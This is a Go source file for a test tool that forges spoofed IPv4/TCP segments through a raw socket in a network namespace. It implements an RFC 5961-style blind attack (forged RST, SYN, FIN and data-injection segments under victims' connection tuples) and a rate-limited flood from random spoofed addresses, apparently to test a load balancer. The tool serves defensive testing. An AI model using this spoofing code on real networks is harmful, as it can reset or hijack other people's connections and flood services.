// Package forge builds and sends forged TCP segments, as the off-path
// attacker of RFC 5961 would: a segment claims a source it does not own
// (a victim's client address and port, or any address of a subnet) and
// carries sequence and acknowledgment numbers it had to guess.
//
// Segments are IPv4+TCP with correct checksums, sent through an IPPROTO_RAW
// socket (IP_HDRINCL implied) opened inside a namespace: the kernel does not
// check the source address of such packets, so spoofing needs nothing more
// (only the receivers' rp_filter could object). Every send loop is paced
// (segments per second) and bounded in count and in time.
//
// It is a test tool for the integration tests; it needs CAP_NET_RAW in the
// namespace it sends from.
package forge

import (
	"context"
	"errors"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"syscall"
	"time"

	"gvisor.dev/gvisor/pkg/tcpip"
	"gvisor.dev/gvisor/pkg/tcpip/checksum"
	"gvisor.dev/gvisor/pkg/tcpip/header"
)

// Kind is one of the forged segments of a blind attack.
type Kind int

// The five kinds of the blind attack (issue 12): each targets one way a
// director without window tracking lets a segment change a flow.
const (
	DataAck Kind = iota // ACK|PSH with a small payload: data injection, stale test, recovery trigger
	PureAck             // ACK: the stale test (ack beyond the high mark)
	Reset               // RST: tear-down
	Syn                 // SYN: flow reuse
	FinAck              // FIN|ACK: half-close, CLOSE_WAIT pinning
	numKinds
)

// Kinds are all the kinds, in the order a round sends them.
var Kinds = []Kind{DataAck, PureAck, Reset, Syn, FinAck}

var kindNames = [numKinds]string{"ack|psh+data", "ack", "rst", "syn", "fin|ack"}

func (k Kind) String() string {
	if k < 0 || k >= numKinds {
		return fmt.Sprintf("Kind(%d)", int(k))
	}
	return kindNames[k]
}

// Flags are the TCP flags of a segment of kind k.
func (k Kind) Flags() header.TCPFlags {
	switch k {
	case DataAck:
		return header.TCPFlagAck | header.TCPFlagPsh
	case PureAck:
		return header.TCPFlagAck
	case Reset:
		return header.TCPFlagRst
	case Syn:
		return header.TCPFlagSyn
	case FinAck:
		return header.TCPFlagFin | header.TCPFlagAck
	}
	return 0
}

// HasPayload says whether a segment of kind k carries the payload.
func (k Kind) HasPayload() bool { return k == DataAck }

// Segment is one forged IPv4 TCP segment.
type Segment struct {
	Src, Dst netip.AddrPort // IPv4 only
	Flags    header.TCPFlags
	Seq, Ack uint32
	Window   uint16 // 0 means 502 (Linux's usual unscaled value on an idle flow)
	ID       uint16 // IP identification
	TTL      uint8  // 0 means 64
	Options  []byte // TCP options, padded by the caller to a multiple of 4 (at most 40 bytes)
	Payload  []byte
}

// Len is the length of the packet Append writes.
func (s *Segment) Len() int {
	return header.IPv4MinimumSize + header.TCPMinimumSize + len(s.Options) + len(s.Payload)
}

// TimestampOption is the TCP timestamp option (NOP, NOP, kind 8) with val
// and ecr, as Linux sends it.
func TimestampOption(val, ecr uint32) []byte {
	return []byte{header.TCPOptionNOP, header.TCPOptionNOP, header.TCPOptionTS, header.TCPOptionTSLength,
		byte(val >> 24), byte(val >> 16), byte(val >> 8), byte(val), byte(ecr >> 24), byte(ecr >> 16), byte(ecr >> 8), byte(ecr)}
}

// Append appends s as an IPv4 packet (no options) carrying a TCP segment
// (no options) to b and returns the extended slice. Both checksums are
// computed. It allocates only if b lacks the capacity.
func (s *Segment) Append(b []byte) ([]byte, error) {
	if !s.Src.Addr().Is4() || !s.Dst.Addr().Is4() {
		return b, fmt.Errorf("forge: %v -> %v: IPv4 addresses only", s.Src, s.Dst)
	}
	if len(s.Options)%4 != 0 || len(s.Options) > 40 {
		return b, fmt.Errorf("forge: %d bytes of TCP options: want a multiple of 4, at most 40", len(s.Options))
	}
	n := s.Len()
	if n > 0xffff {
		return b, fmt.Errorf("forge: packet of %d bytes", n)
	}
	off := len(b)
	if cap(b)-off >= n {
		b = b[:off+n] // no allocation when cap allows (also under -race)
		clear(b[off:])
	} else {
		b = append(b, make([]byte, n)...)
	}
	pkt := b[off:]
	ttl, win := s.TTL, s.Window
	if ttl == 0 {
		ttl = 64
	}
	if win == 0 {
		win = 502
	}
	src, dst := tcpip.AddrFrom4(s.Src.Addr().As4()), tcpip.AddrFrom4(s.Dst.Addr().As4())
	ip := header.IPv4(pkt)
	ip.Encode(&header.IPv4Fields{
		TotalLength: uint16(n),
		ID:          s.ID,
		TTL:         ttl,
		Protocol:    uint8(header.TCPProtocolNumber),
		SrcAddr:     src,
		DstAddr:     dst,
	})
	ip.SetChecksum(^ip.CalculateChecksum())
	tcp := header.TCP(pkt[header.IPv4MinimumSize:])
	tcp.Encode(&header.TCPFields{
		SrcPort:    s.Src.Port(),
		DstPort:    s.Dst.Port(),
		SeqNum:     s.Seq,
		AckNum:     s.Ack,
		DataOffset: uint8(header.TCPMinimumSize + len(s.Options)),
		Flags:      s.Flags,
		WindowSize: win,
	})
	copy(tcp[header.TCPMinimumSize:], s.Options)
	copy(tcp[header.TCPMinimumSize+len(s.Options):], s.Payload)
	xsum := header.PseudoHeaderChecksum(header.TCPProtocolNumber, src, dst, uint16(len(tcp)))
	xsum = checksum.Checksum(s.Payload, xsum)
	tcp.SetChecksum(^tcp.CalculateChecksum(xsum))
	return b, nil
}

// Namespace is where a Sender's socket is opened: f runs on a thread inside
// it (lab.NS has this method).
type Namespace interface {
	Do(f func() error) error
}

// Sender sends raw IPv4 packets from one namespace. Its methods may be
// called from any goroutine, one at a time.
type Sender struct {
	fd  int
	buf []byte
}

// Open opens a raw IPv4 socket (IPPROTO_RAW: the caller writes the IP
// header) inside ns; nil ns means the caller's own namespace.
func Open(ns Namespace) (*Sender, error) {
	s := &Sender{fd: -1, buf: make([]byte, 0, 2048)}
	open := func() error {
		fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_RAW|syscall.SOCK_CLOEXEC, syscall.IPPROTO_RAW)
		if err != nil {
			return fmt.Errorf("forge: raw socket: %w", err)
		}
		// A larger send buffer: a flood's bursts block less often.
		syscall.SetsockoptInt(fd, syscall.SOL_SOCKET, syscall.SO_SNDBUF, 4<<20) //nolint:errcheck // best effort
		s.fd = fd
		return nil
	}
	var err error
	if ns == nil {
		err = open()
	} else {
		err = ns.Do(open)
	}
	if err != nil {
		return nil, err
	}
	return s, nil
}

// Close closes the socket.
func (s *Sender) Close() error {
	if s.fd < 0 {
		return nil
	}
	err := syscall.Close(s.fd)
	s.fd = -1
	return err
}

// Send builds seg and sends it to seg.Dst's address.
func (s *Sender) Send(seg *Segment) error {
	var err error
	s.buf, err = seg.Append(s.buf[:0])
	if err != nil {
		return err
	}
	return s.SendPacket(s.buf)
}

// SendPacket sends one IPv4 packet (header included) to its destination.
func (s *Sender) SendPacket(pkt []byte) error {
	if len(pkt) < header.IPv4MinimumSize {
		return fmt.Errorf("forge: packet of %d bytes", len(pkt))
	}
	to := &syscall.SockaddrInet4{Addr: header.IPv4(pkt).DestinationAddress().As4()}
	for {
		err := syscall.Sendto(s.fd, pkt, 0, to)
		if errors.Is(err, syscall.EINTR) {
			continue
		}
		if err != nil {
			return fmt.Errorf("forge: sendto %v: %w", header.IPv4(pkt).DestinationAddress(), err)
		}
		return nil
	}
}

// Limits bound a send loop. A loop stops at the first bound reached, and
// when its context ends.
type Limits struct {
	Rate     float64       // segments per second; 0 means as fast as the socket takes them
	Max      int           // segments; 0 means no bound other than the loop's own
	Duration time.Duration // 0 means no bound other than the loop's own
}

// Report is what a send loop did.
type Report struct {
	Sent    int
	ByKind  [numKinds]int // blind attack only
	Elapsed time.Duration
}

// Rate is the achieved rate, segments per second.
func (r Report) Rate() float64 {
	if r.Elapsed <= 0 {
		return 0
	}
	return float64(r.Sent) / r.Elapsed.Seconds()
}

// pacer admits sends at a rate, in bursts of about a millisecond's worth
// (time.Sleep does not resolve finer). After a stall (a starved CPU) it
// catches up, so the average rate holds over the whole loop; the Max and
// Duration bounds hold regardless.
type pacer struct {
	lim   Limits
	start time.Time
	sent  int
}

var errDone = errors.New("forge: limit reached")

// next waits until one more segment may go; it returns errDone once a
// bound is reached, ctx's error once ctx ends.
func (p *pacer) next(ctx context.Context) error {
	if p.lim.Max > 0 && p.sent >= p.lim.Max {
		return errDone
	}
	for {
		if err := ctx.Err(); err != nil {
			return err
		}
		el := time.Since(p.start)
		if p.lim.Duration > 0 && el >= p.lim.Duration {
			return errDone
		}
		if p.lim.Rate <= 0 || float64(p.sent) < p.lim.Rate*el.Seconds()+1 {
			p.sent++
			return nil
		}
		due := p.start.Add(time.Duration(float64(p.sent) / p.lim.Rate * float64(time.Second)))
		time.Sleep(max(time.Until(due), 100*time.Microsecond))
	}
}

// Tuple is a victim connection as the attacker knows it: the client's
// address and port, and the VIP and port it talks to.
type Tuple struct {
	Client, VIP netip.AddrPort
}

// Blind describes a blind attack: Rounds rounds, each sending every victim
// one segment of every kind in Kinds (all five when empty), each with a
// random seq and ack, from the victim's client address and port to its VIP.
type Blind struct {
	Victims []Tuple
	Rounds  int
	Kinds   []Kind
	Payload []byte     // of the DataAck segments; empty means DefaultPayload
	Rand    *rand.Rand // nil means a fresh random source
	Limits
}

// DefaultPayload is a small payload that, were it taken into an HTTP
// connection's stream, would break that connection (400, close).
var DefaultPayload = []byte("FORGED\r\n")

// Blind runs a blind attack; it returns what was sent, and the first send
// error or ctx's error if the attack did not run to its end.
func (s *Sender) Blind(ctx context.Context, b Blind) (Report, error) {
	kinds, payload, rng := b.Kinds, b.Payload, b.Rand
	if len(kinds) == 0 {
		kinds = Kinds
	}
	if len(payload) == 0 {
		payload = DefaultPayload
	}
	if rng == nil {
		rng = rand.New(rand.NewPCG(rand.Uint64(), rand.Uint64()))
	}
	p := &pacer{lim: b.Limits, start: time.Now()}
	var r Report
	for range b.Rounds {
		for _, v := range b.Victims {
			for _, k := range kinds {
				if err := p.next(ctx); err != nil {
					r.Elapsed = time.Since(p.start)
					if errors.Is(err, errDone) {
						return r, nil
					}
					return r, err
				}
				seg := Segment{Src: v.Client, Dst: v.VIP, Flags: k.Flags(), Seq: rng.Uint32(), ID: uint16(rng.Uint32())}
				if k.Flags()&header.TCPFlagAck != 0 {
					seg.Ack = rng.Uint32()
				}
				if k.HasPayload() {
					seg.Payload = payload
				}
				if err := s.Send(&seg); err != nil {
					r.Elapsed = time.Since(p.start)
					return r, err
				}
				r.Sent++
				r.ByKind[k]++
			}
		}
	}
	r.Elapsed = time.Since(p.start)
	return r, nil
}

// Flood describes a forged flood: ACK|PSH segments with Payload, random seq
// and ack, from random addresses of Sources (its network and broadcast
// addresses and those in Exclude left out) and random ports 1024..65535, to
// Dst. Limits must bound it: a Rate, and a Max or a Duration.
type Flood struct {
	Sources netip.Prefix
	Exclude []netip.Addr
	Dst     netip.AddrPort
	Payload []byte     // empty means DefaultPayload
	Rand    *rand.Rand // nil means a fresh random source
	Limits
}

// Flood runs a forged flood; it returns what was sent, and the first send
// error or ctx's error if it did not run to its end.
func (s *Sender) Flood(ctx context.Context, f Flood) (Report, error) {
	if f.Max <= 0 && f.Duration <= 0 {
		return Report{}, errors.New("forge: a flood needs a Max or a Duration")
	}
	srcs, err := hosts(f.Sources, f.Exclude)
	if err != nil {
		return Report{}, err
	}
	payload, rng := f.Payload, f.Rand
	if len(payload) == 0 {
		payload = DefaultPayload
	}
	if rng == nil {
		rng = rand.New(rand.NewPCG(rand.Uint64(), rand.Uint64()))
	}
	p := &pacer{lim: f.Limits, start: time.Now()}
	var r Report
	for {
		if err := p.next(ctx); err != nil {
			r.Elapsed = time.Since(p.start)
			if errors.Is(err, errDone) {
				return r, nil
			}
			return r, err
		}
		seg := Segment{
			Src:     netip.AddrPortFrom(srcs[rng.IntN(len(srcs))], uint16(1024+rng.IntN(65536-1024))),
			Dst:     f.Dst,
			Flags:   header.TCPFlagAck | header.TCPFlagPsh,
			Seq:     rng.Uint32(),
			Ack:     rng.Uint32(),
			ID:      uint16(rng.Uint32()),
			Payload: payload,
		}
		if err := s.Send(&seg); err != nil {
			r.Elapsed = time.Since(p.start)
			return r, err
		}
		r.Sent++
	}
}

// hosts lists the host addresses of an IPv4 prefix of /16 or longer, less
// exclude.
func hosts(p netip.Prefix, exclude []netip.Addr) ([]netip.Addr, error) {
	p = p.Masked()
	if !p.Addr().Is4() || p.Bits() < 16 || p.Bits() > 30 {
		return nil, fmt.Errorf("forge: sources %v: want an IPv4 prefix /16 to /30", p)
	}
	skip := map[netip.Addr]bool{}
	for _, a := range exclude {
		skip[a] = true
	}
	var out []netip.Addr
	for a := p.Addr().Next(); p.Contains(a.Next()); a = a.Next() { // not the network, not the broadcast
		if !skip[a] {
			out = append(out, a)
		}
	}
	if len(out) == 0 {
		return nil, fmt.Errorf("forge: sources %v: no address left", p)
	}
	return out, nil
}
